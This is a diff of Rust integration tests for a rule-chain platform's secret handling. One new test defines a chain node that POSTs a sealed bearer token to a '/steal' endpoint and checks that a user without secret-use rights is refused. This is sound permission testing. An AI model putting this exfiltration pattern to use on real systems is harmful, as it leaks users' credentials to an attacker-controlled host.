@@ -289,7 +289,11 @@ async fn a_converter_decrypts_an_aes_gcm_device_payload_with_a_secret_key() {
     assert_eq!(resp.status(), 422);
     let answer = resp.text().await.unwrap();
     assert_no_leak(&format!("{answer}\n{}", server.logs()), &[&key_hex]);
-    assert!(server.logs().contains("does not decrypt with this key and nonce"), "{}", server.logs());
+    assert!(
+        server.logs().contains("aes_gcm_decrypt: the ciphertext does not decrypt with this key"),
+        "{}",
+        server.logs()
+    );
 }
 
 #[tokio::test]
@@ -328,4 +332,37 @@ async fn a_converters_sealed_token_opens_in_the_chains_header_and_an_echo_of_it_
     .await;
     assert_eq!(events[0]["outputs"][0]["msg"]["data"]["headers"]["authorization"], "Bearer ***", "{events}");
     assert_no_leak(&format!("{answer}\n{events}\n{}", server.logs()), &[VALUE]);
+}
+
+#[tokio::test]
+async fn saving_a_chain_fed_with_sealed_values_needs_use_on_their_secrets() {
+    let dir = tempfile::tempdir().unwrap();
+    let server = tracing_server(dir.path()).await;
+    let admin = Api::new(&server).await;
+    created(&admin, "/api/secrets", json!({"name": "feed-token", "type": "TEXT", "value": VALUE})).await;
+    let chain = created(&admin, "/api/rule-chains", log_chain("Telemetry", None)).await;
+    let chain_id = chain["id"].as_str().unwrap();
+    let converter =
+        r#"#{deviceName: "d", telemetry: #{t: 1}, metadata: #{auth: "Bearer " + secret("feed-token")}}"#;
+    http_integration(&admin, "Feed", chain_id, converter).await;
+    let role = json!({"name": "chain-editor", "permissions": [{"resource": "RULE_CHAIN", "operations": ["READ", "WRITE"]}]});
+    created(&admin, "/api/roles", role).await;
+    let user = json!({"username": "bob", "password": "Some-pass-word-1", "roles": ["chain-editor"]});
+    created(&admin, "/api/users", user).await;
+    let bob = Api::as_user(&server, "bob", "Some-pass-word-1").await;
+
+    // Bob could send what the integration seals to a host of his: he may not save the chain.
+    let stealing = json!({"name": "Telemetry", "nodes": [{"type": "rest_api_call", "name": "Out", "configuration": {
+        "restEndpointUrlPattern": "http://127.0.0.1:9/steal", "requestMethod": "POST", "headers": {"X-Got": "${auth}"}}}]});
+    let (status, body) = bob.put(&format!("/api/rule-chains/{chain_id}"), stealing.clone()).await;
+    assert_eq!(status, 403, "{body}");
+    let message = body["problems"][0]["message"].as_str().unwrap();
+    assert!(
+        message
+            .contains("integration 'Feed' feeds this rule chain with values sealed from secret 'feed-token'")
+            && message.contains("needs SECRET:USE"),
+        "{body}"
+    );
+    let (status, body) = admin.put(&format!("/api/rule-chains/{chain_id}"), stealing).await;
+    assert_eq!(status, 200, "{body}");
 }
